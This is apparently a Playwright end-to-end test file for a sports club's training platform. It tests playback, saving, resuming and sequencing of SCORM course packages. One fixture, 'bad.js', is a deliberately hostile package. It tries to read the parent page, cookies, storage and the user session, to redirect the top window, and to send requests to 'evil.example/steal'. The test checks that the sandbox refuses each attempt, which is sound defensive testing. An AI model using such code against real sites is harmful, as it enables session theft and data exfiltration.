import { course12, course2004, manifest12, type PackageFiles } from "../apps/api/test/packages.ts";
import { expect, forgive, type Page, test, thorough, usableByAll } from "./fixtures.ts";
import { newTraining, uploaded } from "./trainings.ts";

test("a coach takes a course on the phone, goes on after a reload, fails, and passes", async ({
  anotherBrowser,
  organization,
  page,
  signIn,
}) => {
  const org = await organization("Rainier Youth Soccer");
  const admin = await org.aMember("root", "Administrator");
  const coach = await org.aMember("northTeam", "Head Coach");
  await test.step("an administrator uploads and assigns it", async () => {
    await signIn(page, admin.email, newTraining);
    await uploaded(page, org, course12, {
      more: async () => {
        await expect(page.getByText("“Sideline safety” · SCORM 1.2 · 1 part")).toBeVisible();
        await page.getByLabel("Passing score (%)").fill("80");
        await usableByAll(page);
      },
    });
  });

  const phone = await anotherBrowser({ viewport: { width: 390, height: 844 } });
  const course = phone.frameLocator('iframe[title="Sideline safety"]');
  await test.step("the coach goes half way, and leaves by a reload", async () => {
    await signIn(phone, coach.email);
    await phone.getByRole("link", { name: "Start" }).click();
    await expect(phone.getByRole("button", { name: "Start: Sideline safety" })).toBeVisible();
    await usableByAll(phone);
    await phone.getByRole("button", { name: "Start: Sideline safety" }).click();
    await expect(course.getByText("Slide 1 of 3")).toBeVisible();
    await expect(phone.getByText("Saved", { exact: true })).toBeVisible();
    const reported = phone.waitForResponse((answer) => answer.url().endsWith("/training-progress") && answer.ok());
    await course.getByRole("button", { name: "Next" }).click();
    await expect(course.getByText("Slide 2 of 3, seen: 1")).toBeVisible();
    await reported;
    await expect(phone.getByText("Saved", { exact: true })).toBeVisible();
    await phone.reload();
    await expect(phone.getByText("In progress")).toBeVisible();
    await usableByAll(phone);
  });

  await test.step("it goes on there, and a wrong answer does not pass", async () => {
    await phone.getByRole("button", { name: "Continue: Sideline safety" }).click();
    await expect(course.getByText("Slide 2 of 3, seen: 1")).toBeVisible();
    await course.getByRole("button", { name: "Next" }).click();
    await course.getByRole("button", { name: "Anybody" }).click();
    await expect(phone.getByText("Not passed yet")).toBeVisible();
    await expect(phone.getByText("Not passed, 20%")).toBeVisible();
    await usableByAll(phone);
  });

  await test.step("the right one does", async () => {
    await phone.getByRole("button", { name: "Try again: Sideline safety" }).click();
    await expect(course.getByText("Slide 1 of 3")).toBeVisible();
    for (const _ of [1, 2]) await course.getByRole("button", { name: "Next" }).click();
    await course.getByRole("button", { name: "Nobody" }).click();
    await expect(phone.getByText("Completed", { exact: true }).first()).toBeVisible();
    await usableByAll(phone);
  });
});

/** A SCORM 1.2 page with a button that passes, commits, and ends, as in the standard's example. */
const passing: PackageFiles = {
  "imsmanifest.xml": manifest12([{ title: "Sideline safety", href: "index.html" }]),
  "index.html": `<!DOCTYPE html><html lang="en"><head><title>Sideline safety</title></head><body><h1>Sideline safety</h1>
<button id="pass">Pass</button><button id="finish">Pass and finish</button><script src="pass.js"></script></body></html>`,
  "pass.js": `
API.LMSInitialize("");
document.getElementById("pass").onclick = function () {
  API.LMSSetValue("cmi.core.lesson_status", "passed");
  API.LMSCommit("");
};
document.getElementById("finish").onclick = function () {
  document.getElementById("pass").onclick();
  API.LMSFinish("");
};
`,
};

for (const way of [
  "ends by itself",
  "is closed while that is still being saved",
  "is closed without its end",
] as const) {
  const details = way === "is closed while that is still being saved" ? {} : { tag: thorough };
  test(
    `a course that commits "passed" and ${way} shows the result, and nothing says that it isn't saved`,
    details,
    async ({ anotherBrowser, organization, page, signIn }) => {
      const org = await organization("Rainier Youth Soccer");
      const coach = await org.aMember("northTeam", "Head Coach");
      const desk = await anotherBrowser();
      await signIn(desk, (await org.aMember("root", "Administrator")).email, newTraining);
      await uploaded(desk, org, passing);
      await signIn(page, coach.email);
      // Detects every message about unsaved progress, however briefly it is shown.
      await page.addInitScript(`new MutationObserver(() => {
      if (/(not|n.t) saved|can.t reach/i.test(document.body?.innerText ?? "")) window.saidUnsaved = true;
    }).observe(document, { childList: true, subtree: true, characterData: true })`);
      await page.getByRole("link", { name: "Start" }).click();
      await page.reload();
      await page.getByRole("button", { name: "Start: Sideline safety" }).click();
      const player = page.getByRole("dialog", { name: "Sideline safety" });
      const course = page.frameLocator('iframe[title="Sideline safety"]');
      const closing = player.getByRole("button", { name: "Close", exact: true });
      if (way === "ends by itself") {
        await course.getByRole("button", { name: "Pass and finish" }).click();
      } else if (way === "is closed without its end") {
        await course.getByRole("button", { name: "Pass", exact: true }).click();
        await expect(player.getByText("Saved", { exact: true })).toBeVisible();
        await closing.click();
      } else {
        let answer = () => {};
        const held = new Promise<void>((resolve) => {
          answer = resolve;
        });
        await page.route("**/training-progress", async (route) => {
          await held;
          await route.continue();
        });
        const reported = page.waitForRequest("**/training-progress");
        await course.getByRole("button", { name: "Pass and finish" }).click();
        await reported;
        await closing.click();
        answer();
      }
      await expect(page.getByText("Completed", { exact: true }).first()).toBeVisible();
      await expect(player).toHaveCount(0);
      expect(await page.evaluate("window.saidUnsaved")).toBeUndefined();
    },
  );
}

/**
 * A SCORM 1.2 course as Captivate exports it: the page looks for its driver in every window around it, up to the topmost, and
 * then for the API in these and in the window that opened it.
 */
const walking: PackageFiles = {
  "imsmanifest.xml": manifest12([{ title: "Sideline safety", href: "index_scorm.html" }]),
  "index_scorm.html": `<!DOCTYPE html><html lang="en"><head><title>Sideline safety</title></head><body><h1 id="walked">Walking</h1>
<button id="done">Done</button><script src="walk.js"></script></body></html>`,
  "walk.js": `
function uppermost(win) { var steps = 0; while (win.parent && win.parent !== win) { win = win.parent; steps += 1; } return steps; }
function toTop(win) { var steps = 0; while (win !== window.top) { win = win.parent; steps += 1; } return steps; }
function documents(win) { try { while (win.parent.document) win = win.parent; } catch (error) { return "stopped"; } return "ended"; }
function scan(win) {
  for (var steps = 0; win.API == null && win.parent != null && win.parent != win; steps += 1) {
    if (steps > 500) return null;
    win = win.parent;
  }
  return win.API || null;
}
function found() {
  return (window.parent && window.parent !== window && scan(window.parent)) || (window.opener && scan(window.opener)) || scan(window);
}
var around = [uppermost(window), toTop(window) > 0, window.opener === null, documents(window)].join(" ");
var API = found();
document.getElementById("walked").textContent = "Walked " + around + " " + API.LMSInitialize("");
document.getElementById("done").onclick = function () {
  API.LMSSetValue("cmi.core.lesson_status", "passed");
  API.LMSFinish("");
};
`,
};

test("a course that walks up all windows around it runs, and its author is told so at upload", {
  tag: thorough,
}, async ({ anotherBrowser, organization, page, signIn }) => {
  const org = await organization("Rainier Youth Soccer");
  const coach = await org.aMember("northTeam", "Head Coach");
  const desk = await anotherBrowser();
  await signIn(desk, (await org.aMember("root", "Administrator")).email, newTraining);
  await uploaded(desk, org, walking, {
    more: () => expect(desk.getByText("Tested: the course starts and reports.")).toBeVisible({ timeout: 30_000 }),
  });
  await signIn(page, coach.email);
  await page.getByRole("link", { name: "Start" }).click();
  await page.getByRole("button", { name: "Start: Sideline safety" }).click();
  const course = page.frameLocator('iframe[title="Sideline safety"]');
  await expect(course.getByText("Walked 1 true true stopped true")).toBeVisible();
  await course.getByRole("button", { name: "Done" }).click();
  await expect(page.getByText("Completed", { exact: true }).first()).toBeVisible();
});

/**
 * A course as Rise exports it: a driver in the outer page, and the course in a frame that calls the driver and needs its
 * answers.
 */
const riseLike: PackageFiles = {
  "imsmanifest.xml": manifest12([{ title: "Sideline safety", href: "scormdriver/indexAPI.html" }]),
  "scormdriver/indexAPI.html": `<!DOCTYPE html><html lang="en"><head><title>Driver</title><script src="driver.js"></script></head>
<body onload="begin()"><iframe name="scormdriver_content" title="content" src="blank.html" width="600" height="400"></iframe></body></html>`,
  "scormdriver/blank.html": "<!DOCTYPE html><title>Blank</title>",
  "scormdriver/driver.js": `
API.LMSInitialize("");
function GetBookmark() { return API.LMSGetValue("cmi.core.lesson_location"); }
function SetPassed() { API.LMSSetValue("cmi.core.lesson_status", "passed"); API.LMSFinish(""); }
function begin() { document.getElementsByName("scormdriver_content")[0].src = "../scormcontent/index.html"; }`,
  "scormcontent/index.html": `<!DOCTYPE html><html lang="en"><head><title>Course</title></head><body><h1 id="where">Loading</h1><script src="course.js"></script></body></html>`,
  "scormcontent/course.js": `document.getElementById("where").textContent = "From " + (window.parent.GetBookmark().toUpperCase() || "the start");`,
};

test("a course whose frames need answers of one another is never blank under “Saved”: its author is told at upload, the member when it happens", {
  tag: thorough,
}, async ({ anotherBrowser, complaints, organization, page, signIn }) => {
  const org = await organization("Rainier Youth Soccer");
  const coach = await org.aMember("northTeam", "Head Coach");
  const desk = await anotherBrowser({ viewport: { width: 390, height: 844 } });
  await signIn(desk, (await org.aMember("root", "Administrator")).email, newTraining);
  await uploaded(desk, org, riseLike, {
    more: async () => {
      await expect(desk.getByText("This course uses frames and may not run here")).toBeVisible();
      await expect(desk.getByText("“Sideline safety” doesn't fully run")).toBeVisible({ timeout: 30_000 });
      await expect(desk.getByText("Ask the person who runs this site to set PACKAGES_URL").first()).toBeVisible();
      await usableByAll(desk);
    },
  });
  await signIn(page, coach.email);
  await page.getByRole("link", { name: "Start" }).click();
  await page.getByRole("button", { name: "Start: Sideline safety" }).click();
  const player = page.getByRole("dialog", { name: "Sideline safety" });
  await expect(player.getByText("Parts of this course don't work here")).toBeVisible();
  await expect(player.getByText("Nothing saved yet")).toBeVisible();
  await usableByAll(page);
  await player.getByRole("button", { name: "Close", exact: true }).click();
  await expect(page.getByRole("button", { name: /Sideline safety/ })).toBeVisible();
  forgive(complaints, /GetBookmark|toUpperCase/);
});

test("where it is opened on another device, the first one is told and keeps nothing", { tag: thorough }, async ({
  anotherBrowser,
  organization,
  page,
  signIn,
  complaints,
}) => {
  const org = await organization("Rainier Youth Soccer");
  const coach = await org.aMember("northTeam", "Head Coach");
  const desk = await anotherBrowser();
  await signIn(desk, (await org.aMember("root", "Administrator")).email, newTraining);
  await uploaded(desk, org, course12);
  const devices = [page, await anotherBrowser({}, [409])] as const;
  const frameOf = (one: Page) => one.frameLocator('iframe[title="Sideline safety"]');
  for (const one of devices) {
    await signIn(one, coach.email);
    await one.getByRole("link", { name: /^(Start|Continue)/ }).click();
    await one.getByRole("button", { name: /^(Start|Continue): Sideline safety/ }).click();
    await expect(frameOf(one).getByText("Slide 1 of 3")).toBeVisible();
    await expect(one.getByText("Saved", { exact: true })).toBeVisible();
  }
  await frameOf(page).getByRole("button", { name: "Next" }).click();
  await expect(page.getByText("This training is open somewhere else")).toBeVisible();
  await frameOf(devices[1]).getByRole("button", { name: "Next" }).click();
  await expect(frameOf(devices[1]).getByText("Slide 2 of 3, seen: 1")).toBeVisible();
  await devices[1].getByRole("button", { name: "Close", exact: true }).click();
  await expect(devices[1].getByRole("button", { name: "Continue: Sideline safety" })).toBeVisible();
  await page.getByRole("button", { name: "Close", exact: true }).click();
  await page.getByRole("button", { name: "Continue: Sideline safety" }).click();
  await expect(frameOf(page).getByText("Slide 2 of 3, seen: 1")).toBeVisible();
  forgive(complaints, /status of 409/);
});

test("a course of SCORM 2004 that looks above itself first is passed", { tag: thorough }, async ({
  anotherBrowser,
  organization,
  page,
  signIn,
}) => {
  const org = await organization("Rainier Youth Soccer");
  const coach = await org.aMember("northTeam", "Head Coach");
  const desk = await anotherBrowser();
  await signIn(desk, (await org.aMember("root", "Administrator")).email, newTraining);
  await uploaded(desk, org, course2004);
  await signIn(page, coach.email);
  await page.getByRole("link", { name: "Start" }).click();
  await page.getByRole("button", { name: "Start: Concussion basics" }).click();
  const course = page.frameLocator('iframe[title="Concussion basics"]');
  await expect(course.getByText("ab-initio start=1 ?lang=en")).toBeVisible();
  await course.getByRole("button", { name: "Done" }).click();
  await expect(page.getByText("Completed", { exact: true }).first()).toBeVisible();
});

/** Two parts; the first leads to the second. */
const inOrder: PackageFiles = {
  "imsmanifest.xml": `<?xml version="1.0"?>
<manifest identifier="c" xmlns="http://www.imsglobal.org/xsd/imscp_v1p1" xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_v1p3" xmlns:imsss="http://www.imsglobal.org/xsd/imsss">
  <metadata><schemaversion>2004 4th Edition</schemaversion></metadata>
  <organizations default="o"><organization identifier="o"><title>Sideline safety</title>
    <item identifier="rules" identifierref="r0"><title>The rules</title></item>
    <item identifier="cases" identifierref="r1"><title>Cases</title></item>
    <imsss:sequencing><imsss:controlMode choice="false" flow="true"/></imsss:sequencing>
  </organization></organizations>
  <resources>${["rules", "cases"]
    .map(
      (name, place) => `<resource identifier="r${place}" type="webcontent" adlcp:scormType="sco" href="${name}.html"/>`,
    )
    .join("")}</resources>
</manifest>`,
  ...Object.fromEntries(
    ["rules", "cases"].map((name) => [
      `${name}.html`,
      `<!DOCTYPE html><html lang="en"><head><title>${name}</title></head><body><h1>${name}</h1><p id="may"></p><button id="go">Go on</button><script src="go.js"></script></body></html>`,
    ]),
  ),
  "go.js": `
var API = window.API_1484_11;
API.Initialize("");
document.getElementById("may").textContent = ["continue", "previous", "choice.{target=rules}"].map(function (to) {
  return API.GetValue("adl.nav.request_valid." + to);
}).join(" ");
document.getElementById("go").onclick = function () {
  API.SetValue("cmi.completion_status", "completed");
  API.SetValue("adl.nav.request", "continue");
  API.Terminate("");
};
`,
};

test("a course of two parts leads from the first to the second, which waits for it", { tag: thorough }, async ({
  anotherBrowser,
  organization,
  page,
  signIn,
}) => {
  const org = await organization("Rainier Youth Soccer");
  const coach = await org.aMember("northTeam", "Head Coach");
  const desk = await anotherBrowser();
  await signIn(desk, (await org.aMember("root", "Administrator")).email, newTraining);
  await uploaded(desk, org, inOrder);
  await page.setViewportSize({ width: 390, height: 844 });
  await signIn(page, coach.email);
  await page.getByRole("link", { name: "Start" }).click();
  await expect(page.getByText("Available after “The rules”")).toBeVisible();
  await expect(page.getByRole("button", { name: "Start: Cases" })).toBeDisabled();
  await usableByAll(page);
  await page.getByRole("button", { name: "Start: The rules" }).click();
  const first = page.frameLocator('iframe[title="The rules"]');
  await expect(first.getByText("true false true")).toBeVisible();
  await first.getByRole("button", { name: "Go on" }).click();
  const second = page.frameLocator('iframe[title="Cases"]');
  await expect(second.getByText("false true true")).toBeVisible();
  await second.getByRole("button", { name: "Go on" }).click();
  await expect(page.getByText("Completed", { exact: true }).first()).toBeVisible();
});

/**
 * A test before the course: people who pass it go to the end. Each page has a button for what it reports, and says what may
 * come next.
 */
const pretest: PackageFiles = {
  "imsmanifest.xml": `<?xml version="1.0"?>
<manifest identifier="c" xmlns="http://www.imsglobal.org/xsd/imscp_v1p1" xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_v1p3" xmlns:imsss="http://www.imsglobal.org/xsd/imsss">
  <metadata><schemaversion>2004 4th Edition</schemaversion></metadata>
  <organizations default="o"><organization identifier="o"><title>Sideline safety</title>
    <item identifier="test" identifierref="r0"><title>What you know</title><imsss:sequencing><imsss:objectives>
      <imsss:primaryObjective objectiveID="known"><imsss:mapInfo targetObjectiveID="all-known" writeSatisfiedStatus="true"/></imsss:primaryObjective>
    </imsss:objectives></imsss:sequencing></item>
    <item identifier="course" identifierref="r1"><title>The course</title><imsss:sequencing>
      <imsss:sequencingRules><imsss:preConditionRule><imsss:ruleConditions><imsss:ruleCondition condition="satisfied"/></imsss:ruleConditions>
        <imsss:ruleAction action="skip"/></imsss:preConditionRule></imsss:sequencingRules>
      <imsss:objectives><imsss:primaryObjective objectiveID="known"><imsss:mapInfo targetObjectiveID="all-known"/></imsss:primaryObjective></imsss:objectives>
    </imsss:sequencing></item>
    <item identifier="pledge" identifierref="r2"><title>Your pledge</title></item>
    <imsss:sequencing><imsss:controlMode choice="false" flow="true"/></imsss:sequencing>
  </organization></organizations>
  <resources>${["test", "course", "pledge"]
    .map(
      (name, place) => `<resource identifier="r${place}" type="webcontent" adlcp:scormType="sco" href="${name}.html"/>`,
    )
    .join("")}</resources>
</manifest>`,
  ...Object.fromEntries(
    ["test", "course", "pledge"].map((name) => [
      `${name}.html`,
      `<!DOCTYPE html><html lang="en"><head><title>${name}</title></head><body><h1>${name}</h1><p id="may"></p><button id="go">Go on</button><script src="go.js"></script></body></html>`,
    ]),
  ),
  "go.js": `
var API = window.API_1484_11;
API.Initialize("");
document.getElementById("may").textContent = ["continue", "previous"].map(function (to) { return API.GetValue("adl.nav.request_valid." + to); }).join(" ");
document.getElementById("go").onclick = function () {
  API.SetValue("cmi.completion_status", "completed");
  API.SetValue("cmi.success_status", "passed");
  API.SetValue("adl.nav.request", "continue");
  API.Terminate("");
};
`,
};

test("a course whose first test leaves out a part leads on by its own rules, and is completed without that part", {
  tag: thorough,
}, async ({ anotherBrowser, organization, page, signIn }) => {
  const org = await organization("Rainier Youth Soccer");
  const coach = await org.aMember("northTeam", "Head Coach");
  const desk = await anotherBrowser();
  await signIn(desk, (await org.aMember("root", "Administrator")).email, newTraining);
  await uploaded(desk, org, pretest);
  await page.setViewportSize({ width: 390, height: 844 });
  await signIn(page, coach.email);
  await page.getByRole("link", { name: "Start" }).click();
  await expect(page.getByRole("button", { name: "Start: The course" })).toBeDisabled();
  await expect(page.getByText("Not available yet")).toHaveCount(2);
  await usableByAll(page);
  await page.getByRole("button", { name: "Start: What you know" }).click();
  const first = page.frameLocator('iframe[title="What you know"]');
  await expect(first.getByText("true false")).toBeVisible();
  await first.getByRole("button", { name: "Go on" }).click();
  const last = page.frameLocator('iframe[title="Your pledge"]');
  await last.getByRole("button", { name: "Go on" }).click();
  await expect(page.getByText("Completed", { exact: true }).first()).toBeVisible();
});

/** The attacks that a hostile package tries, each with whether it succeeded. */
const hostile: PackageFiles = {
  "imsmanifest.xml": manifest12([{ title: "Sideline safety", href: "index.html" }]),
  "inner.html": `<!DOCTYPE html><script src="inner.js"></script>`,
  "inner.js": `try { top.document.title; top.postMessage("inner reached", "*") } catch (error) { window.parent.postMessage("inner refused") }`,
  "index.html": `<!DOCTYPE html><html><head><title>Bad</title></head><body><h1>Trying</h1><ul id="came"></ul>
<iframe src="inner.html" title="inner" width="10" height="10"></iframe><script src="bad.js"></script></body></html>`,
  "bad.js": `
var came = document.getElementById("came");
function say(what, result) { var one = document.createElement("li"); one.textContent = what + ": " + result; came.appendChild(one); }
function attempt(what, act) { try { say(what, "reached " + String(act()).slice(0, 60)); } catch (error) { say(what, "refused"); } }
var above = window.top;
attempt("page", function () { return above.document.title; });
attempt("address", function () { return above.location.href; });
attempt("cookie", function () { return Object.getOwnPropertyDescriptor(Document.prototype, "cookie").get.call(document); });
["localStorage", "sessionStorage"].forEach(function (name) {
  attempt(name, function () {
    var frame = document.createElement("iframe");
    document.body.appendChild(frame);
    return frame.contentWindow[name].length;
  });
});
attempt("database", function () { indexedDB.open("x").onerror = null; return "opened"; });
attempt("stand-in", function () { localStorage.setItem("a", "1"); if (localStorage.getItem("touchline") !== null) throw 0; return localStorage.getItem("a"); });
// As a page of its own it may leave, as any may.
if (above !== window) try { above.location = "https://evil.example/"; say("leading away", "asked"); } catch (error) { say("leading away", "refused"); }
function call(what, url, options) {
  fetch(url, options).then(function (answer) { return answer.text(); }).then(function (text) { say(what, "reached " + text.slice(0, 60)); }, function () { say(what, "refused"); });
}
call("session", "/api/active-user-session", { credentials: "include" });
call("elsewhere", "https://evil.example/steal");
var image = new Image();
image.onload = function () { say("image", "reached"); };
image.onerror = function () { say("image", "refused"); };
image.src = "https://evil.example/steal.png";
`,
};

test("a package that means no good reaches neither the page, nor the session, nor anything elsewhere", async ({
  anotherBrowser,
  context,
  organization,
  page,
  signIn,
  complaints,
}) => {
  const org = await organization("Rainier Youth Soccer");
  const coach = await org.aMember("northTeam", "Head Coach");
  const desk = await anotherBrowser();
  await signIn(desk, (await org.aMember("root", "Administrator")).email, newTraining);
  await uploaded(desk, org, hostile);
  const elsewhere: string[] = [];
  await context.route("https://evil.example/**", (route) => {
    elsewhere.push(route.request().url());
    return route.fulfill({ body: "stolen", headers: { "access-control-allow-origin": "*" } });
  });
  await signIn(page, coach.email);
  await page.evaluate(() => localStorage.setItem("touchline-test", "kept"));
  await page.getByRole("link", { name: "Start" }).click();
  await page.getByRole("button", { name: "Start: Sideline safety" }).click();
  const course = page.frameLocator('iframe[title="Sideline safety"]');
  for (const what of [
    "page",
    "address",
    "cookie",
    "database",
    "localStorage",
    "sessionStorage",
    "session",
    "elsewhere",
    "image",
    "leading away",
  ]) {
    await expect(course.getByText(`${what}: refused`, { exact: true })).toBeVisible();
  }
  await expect(course.getByText("stand-in: reached 1")).toBeVisible();
  expect(elsewhere).toEqual([]);
  expect(new URL(page.url()).pathname).toMatch(/^\/requirements\//);
  await page.getByRole("button", { name: "Close", exact: true }).click();

  await test.step("nor opened by its address as a page of its own", async () => {
    const address = await page.evaluate(() => performance.getEntriesByType("resource").map((one) => one.name));
    const own = address.find((one) => one.includes("/training-package/"));
    expect(own).toBeDefined();
    const alone = await context.newPage();
    await alone.goto(own as string);
    await expect(alone.getByText("cookie: refused")).toBeVisible();
    await expect(alone.getByText("session: refused")).toBeVisible();
    await alone.close();
  });
  expect(complaints.length).toBeGreaterThan(0);
  complaints.length = 0;
});

test("where a course has its own way out and asks for no other, the player offers none while it runs, and Escape still leaves", {
  tag: thorough,
}, async ({ anotherBrowser, organization, page, signIn }) => {
  const org = await organization("Rainier Youth Soccer");
  const coach = await org.aMember("northTeam", "Head Coach");
  const desk = await anotherBrowser();
  await signIn(desk, (await org.aMember("root", "Administrator")).email, newTraining);
  const hidden = ["exit", "exitAll", "suspendAll"].map((one) => `<adlnav:hideLMSUI>${one}</adlnav:hideLMSUI>`).join("");
  const presentation = `<adlnav:presentation xmlns:adlnav="http://www.adlnet.org/xsd/adlnav_v1p3"><adlnav:navigationInterface>${hidden}</adlnav:navigationInterface></adlnav:presentation>`;
  const manifest = String(course2004["imsmanifest.xml"]).replace("</item>", `${presentation}</item>`);
  await uploaded(desk, org, { ...course2004, "imsmanifest.xml": manifest });
  await signIn(page, coach.email);
  await page.getByRole("link", { name: "Start" }).click();
  await page.getByRole("button", { name: /^Start: / }).click();
  const player = page.getByRole("dialog");
  await expect(player.locator("iframe").contentFrame().getByRole("button", { name: "Done" })).toBeVisible();
  // Until the course has reported something, it may have failed to load.
  await expect(player.getByRole("button", { name: "Close", exact: true })).toBeVisible();
  await player.locator("iframe").contentFrame().locator("body").evaluate("API_1484_11.SetValue('cmi.location', '2')");
  await expect(player.getByText("Saved", { exact: true })).toBeVisible();
  await expect(player.getByRole("button", { name: "Close", exact: true })).toHaveCount(0);
  await player.press("Escape");
  await expect(player).toHaveCount(0);
});
